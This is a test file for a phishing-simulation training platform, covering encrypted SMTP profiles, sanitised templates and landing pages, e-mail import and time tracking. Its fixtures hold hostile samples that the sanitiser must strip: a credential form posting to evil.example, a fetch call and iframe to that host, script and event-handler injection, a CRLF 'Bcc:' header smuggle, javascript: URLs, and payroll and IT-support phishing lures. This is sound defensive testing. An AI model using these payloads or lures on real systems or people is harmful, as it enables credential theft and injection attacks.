// Learn, GoPhish parity: sending profiles stored with a write-only, encrypted password; the
// organisation's templates and landing pages (placeholders checked, HTML sanitised, forms that
// post only back to us) used by a campaign; an e-mail imported as a template; time spent on
// lessons and quizzes credited within plausible bounds.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { VigieError } from '../core/index.js';
import { sanitiseHtml } from '../learn/index.js';
import { openStore, type Store } from '../store/index.js';
import { createLearnService, DAY_MAX_SECONDS, type Learner, type LearnService } from './learn.js';
import { checkProfile, openPassword, type SmtpSettings, sealPassword } from './learn-profiles.js';
import type { OutgoingMessage } from './learn-sender.js';

let now = Date.parse('2026-03-02T09:00:00.000Z');
const clock = () => new Date(now);
const admin = { actor: { kind: 'system' as const } };
const SECRET = 'a-server-secret-of-some-length';

let store: Store;
let learn: LearnService;
const built: SmtpSettings[] = [];
const sent: OutgoingMessage[] = [];
let failVerify: Error | undefined;

beforeEach(async () => {
  now = Date.parse('2026-03-02T09:00:00.000Z');
  built.length = 0;
  sent.length = 0;
  failVerify = undefined;
  store = await openStore({ sqliteFile: join(mkdtempSync(join(tmpdir(), 'vigie-learn-custom-')), 'v.db') });
  learn = createLearnService(store, clock, {
    publicUrl: 'https://vigie.test',
    secretKey: SECRET,
    transportFor: (settings) => {
      built.push(settings);
      return {
        async verify() {
          if (failVerify) throw failVerify;
        },
        async send(message) {
          sent.push(message);
          return { messageId: `<m${sent.length}@test>` };
        },
      };
    },
  });
});
afterEach(() => store.close());

const profileInput = {
  name: 'Relay',
  host: 'smtp.example.org',
  port: 587,
  tls: 'starttls' as const,
  username: 'phish@example.org',
  password: 'S3cret-SMTP-pass',
  fromAddress: 'it-support@example.org',
  fromName: 'IT Support',
  headers: [{ name: 'X-Mailer', value: 'Microsoft Outlook 16.0' }],
};

describe('sending profiles', () => {
  it('never returns the password, keeps it encrypted at rest, and keeps it on an update without one', async () => {
    const created = await learn.createProfile(profileInput, admin);
    expect(created).toMatchObject({ password: 'set', passwordStorage: 'encrypted', host: 'smtp.example.org' });
    expect(JSON.stringify(await learn.profiles())).not.toContain(profileInput.password);
    const row = await store.db.selectFrom('learn_profiles').selectAll().executeTakeFirstOrThrow();
    expect(row.password).toMatch(/^v1:/);
    expect(row.password).not.toContain(profileInput.password);
    // The audit trail says the password was set, not what it is.
    const audit = await store.db.selectFrom('audit_log').selectAll().execute();
    expect(JSON.stringify(audit)).not.toContain(profileInput.password);

    const { password: _omitted, ...withoutPassword } = profileInput;
    await learn.updateProfile(created.id, { ...withoutPassword, port: 2525 }, admin);
    const outcome = await learn.testProfile(created.id, 'me@example.org', admin);
    expect(outcome).toMatchObject({ ok: true, stage: 'send' });
    expect(built.at(-1)).toMatchObject({ port: 2525, password: profileInput.password });
    expect(sent.at(-1)?.headers).toMatchObject({ 'X-Mailer': 'Microsoft Outlook 16.0' });
  });

  it('seals and opens a password only with the same secret; without one it is marked plain', () => {
    const sealed = sealPassword('pw', SECRET);
    expect(openPassword(sealed, SECRET)).toBe('pw');
    expect(() => openPassword(sealed, 'another-secret-entirely')).toThrow(VigieError);
    expect(sealPassword('pw', undefined)).toBe('plain:pw');
  });

  it('refuses forged headers and reserved ones', async () => {
    await expect(
      learn.createProfile({ ...profileInput, headers: [{ name: 'X-Test', value: 'a\r\nBcc: x@y.z' }] }, admin),
    ).rejects.toThrow(/one line/);
    await expect(
      learn.createProfile({ ...profileInput, headers: [{ name: 'X-Vigie-Simulation', value: 'x' }] }, admin),
    ).rejects.toThrow(/set by Vigie/);
  });

  it('reports where a test failed, with the server answer, and audits it', async () => {
    const created = await learn.createProfile(profileInput, admin);
    failVerify = Object.assign(new Error('Invalid login: 535 5.7.8 Authentication failed'), { code: 'EAUTH' });
    const outcome = await learn.testProfile(created.id, 'me@example.org', admin);
    expect(outcome).toMatchObject({ ok: false, stage: 'verify' });
    expect(outcome.problem).toContain('535');
    const audit = await store.db
      .selectFrom('audit_log')
      .selectAll()
      .where('action', '=', 'learn.profile.test')
      .execute();
    expect(audit).toHaveLength(1);
  });
});

const TEMPLATE = {
  name: 'Payroll portal',
  senderName: { fr: 'Paie', en: 'Payroll' },
  subject: { fr: 'Votre bulletin, {{first_name}}', en: 'Your payslip, {{first_name}}' },
  html: {
    fr: '<p onclick="steal()">Bonjour {{first_name}}</p><script>alert(1)</script><p><a href="{{link}}">Voir</a></p>',
    en: '<p>Hello {{first_name}}</p><p><a href="{{link}}">View</a></p>',
  },
  landing: 'sso-login',
};

const LANDING = {
  name: 'Payroll sign-in',
  title: { fr: 'Portail paie', en: 'Payroll portal' },
  html: {
    fr: '<form action="https://evil.example/collect" method="get" enctype="multipart/form-data"><input name="login"><input type="password" name="pwd" onfocus="x()"><button>OK</button></form><script>fetch("https://evil.example")</script><iframe src="https://evil.example"></iframe>',
    en: '',
  },
};

describe('organisation templates and landing pages', () => {
  it('refuses an unknown placeholder and a body without the tracked link, with clear messages', async () => {
    const err = await learn
      .createCustom('template', { ...TEMPLATE, html: { fr: 'Bonjour {{prenom}} {{.URL}}', en: '' } }, admin)
      .catch((e: unknown) => e);
    expect(err).toBeInstanceOf(VigieError);
    const problems = (err as VigieError).details?.problems as { en: string; fr: string }[];
    expect(problems.map((p) => p.en).join(' ')).toMatch(/Unknown placeholder: \{\{prenom\}\}, \{\{\.URL\}\}/);
    expect(problems.map((p) => p.en).join(' ')).toMatch(/tracked link \{\{link\}\} is required/);
    expect(problems[0]?.fr).toMatch(/Champ de fusion inconnu/);
  });

  it('sanitises a landing page: forms post back here only, no script, no handler, no frame', async () => {
    const landing = await learn.createCustom('landing', LANDING, admin);
    const data = landing.data as { html: { fr: string; en: string }; fields: { name: string; type: string }[] };
    expect(data.fields).toEqual([
      { name: 'login', type: 'text' },
      { name: 'pwd', type: 'password' },
    ]);
    for (const html of [data.html.fr, data.html.en]) {
      expect(html).not.toMatch(/script|onfocus|iframe|evil\.example|enctype|method="get"/i);
      expect(html).toContain('method="post"');
    }
  });

  it('sends an organisation template in a campaign, rendered with the target values and the tracked link', async () => {
    const landing = await learn.createCustom('landing', LANDING, admin);
    const template = await learn.createCustom('template', { ...TEMPLATE, landing: landing.id }, admin);
    const profile = await learn.createProfile(profileInput, admin);
    const { group } = await learn.importGroup(
      'g',
      'email,first_name,last_name,department,locale\nalice@acme.test,Alice,<b>A</b>,Finance,fr\n',
      admin,
    );
    const summary = await learn.contentSummary();
    expect(summary.templates.some((t) => t.id === template.id && t.origin === 'organisation')).toBe(true);
    const campaign = await learn.createCampaign(
      {
        name: 'c',
        groupId: group.id,
        templates: [template.id],
        profileId: profile.id,
        schedule: { start: '2026-03-02T09:00:00.000Z', end: '2026-03-03T09:00:00.000Z', window: {} },
      },
      admin,
    );
    expect(campaign).toMatchObject({ profileId: profile.id, sender: { address: 'it-support@example.org' } });
    // A template an unfinished campaign uses cannot be deleted; its landing neither; the profile neither.
    await expect(learn.deleteCustom('template', template.id, admin)).rejects.toThrow(/Campaigns not finished/);
    await expect(learn.deleteCustom('landing', landing.id, admin)).rejects.toThrow(/Templates still lead/);
    await expect(learn.deleteProfile(profile.id, admin)).rejects.toThrow(/still send/);
    await learn.launch(campaign.id, admin);
    now += 60_000;
    expect(await learn.sendDue()).toMatchObject({ sent: 1, failed: 0 });
    const message = sent[0] as OutgoingMessage;
    expect(message.subject).toBe('Votre bulletin, Alice');
    expect(message.from).toBe('"IT Support" <it-support@example.org>');
    expect(message.html).not.toMatch(/script|onclick/);
    const token = message.headers['X-Vigie-Simulation'] as string;
    expect(message.html).toContain(`<a href="https://vigie.test/learn/t/${token}">Voir</a>`);
    expect(message.headers['X-Mailer']).toBe('Microsoft Outlook 16.0');
    // The tracked visit resolves to the organisation's landing page.
    const visit = await learn.lookup(token);
    expect(visit?.customLanding?.name).toBe('Payroll sign-in');
    const submitted = await learn.track(token, { type: 'submitted', form: { login: 'x', pwd: 'x', other: 'x' } });
    expect(submitted).toBeDefined();
    const events = await store.db.selectFrom('learn_events').selectAll().where('type', '=', 'submitted').execute();
    expect(JSON.parse(events[0]?.fields ?? '[]')).toEqual(['login', 'pwd']);
    // The campaign is over: its template can go, and the visit still finds it (teaching page, results).
    await learn.deleteCustom('template', template.id, admin);
    expect((await learn.contentSummary()).templates.some((t) => t.id === template.id)).toBe(false);
    expect((await learn.lookup(token))?.template?.subject.fr).toBe('Votre bulletin, {{first_name}}');
  });

  it('imports an e-mail as a draft with GoPhish placeholders turned into ours and links tracked', async () => {
    const raw = [
      'From: "Service RH" <rh@example.org>',
      'To: someone@example.org',
      'Subject: Entretien annuel {{.FirstName}}',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>Bonjour {{.FirstName}},</p><p><a href="https://intranet.example.org/x">Ouvrir</a></p><script>x()</script>',
      '',
    ].join('\r\n');
    const { draft, fromAddress } = await learn.importEmail(raw, true);
    expect(fromAddress).toBe('rh@example.org');
    expect(draft.subject.fr).toBe('Entretien annuel {{first_name}}');
    expect(draft.html.fr).toContain('<a href="{{link}}">Ouvrir</a>');
    expect(draft.html.fr).not.toContain('script');
    const preview = await learn.previewCustom('template', { ...draft, landing: 'sso-login' }, 'fr');
    expect(preview).toMatchObject({ ok: true, subject: 'Entretien annuel Camille' });
  });

  it('sanitises what tries to hide active content', () => {
    const out = sanitiseHtml(
      '<a href=" java\tscript:alert(1)">x</a><img src="data:text/html,x"><img src="data:image/png;base64,AA=="><div style="background:url(javascript:x)">y</div><svg><script>1</script></svg>',
      'landing',
    );
    expect(out).not.toMatch(/javascript|text\/html|svg|<script/i);
    expect(out).toContain('data:image/png');
  });
});

describe('time spent', () => {
  it('credits heartbeats within the time that really passed and caps a day', async () => {
    const learner: Learner = { id: 'u1', department: 'Finance', locale: 'fr' };
    expect(await learn.recordTime(learner, { moduleId: 'deepfakes', kind: 'lesson', seconds: 600 })).toEqual({
      credited: 60,
    });
    now += 10_000;
    // Ten seconds later, a claim of 60 seconds (a second tab) is worth ten.
    expect(await learn.recordTime(learner, { moduleId: 'deepfakes', kind: 'quiz', seconds: 60 })).toEqual({
      credited: 10,
    });
    const me = await learn.me(learner);
    expect(me.timeSpent).toMatchObject({ seconds: 70, lessonSeconds: 60, quizSeconds: 10 });
    await expect(learn.recordTime(learner, { moduleId: 'nope', kind: 'quiz', seconds: 5 })).rejects.toThrow();
    for (let i = 0; i < DAY_MAX_SECONDS / 60 + 5; i++) {
      now += 60_000;
      await learn.recordTime(learner, { moduleId: 'deepfakes', kind: 'lesson', seconds: 60 });
    }
    const day = await store.learn.secondsOnDay('u1', '2026-03-02');
    expect(day).toBeLessThanOrEqual(DAY_MAX_SECONDS);
    const programme = await learn.programme();
    expect(programme.training.timeSpent).toMatchObject({ learners: 1, byDepartment: [{ learners: 1 }] });
  });
});

describe('sending profile checks', () => {
  const base = {
    name: 'Relay',
    host: 'smtp.example.org',
    port: 25,
    tls: 'none' as const,
    fromAddress: 'it@example.org',
  };
  it('refuses a password in clear to another host, allows it to a relay on this machine', () => {
    expect(() => checkProfile({ ...base, username: 'u', password: 'p' })).toThrow(/in clear/);
    expect(() => checkProfile({ ...base, host: '127.0.0.1', username: 'u', password: 'p' })).not.toThrow();
    expect(() => checkProfile(base)).not.toThrow();
  });
});
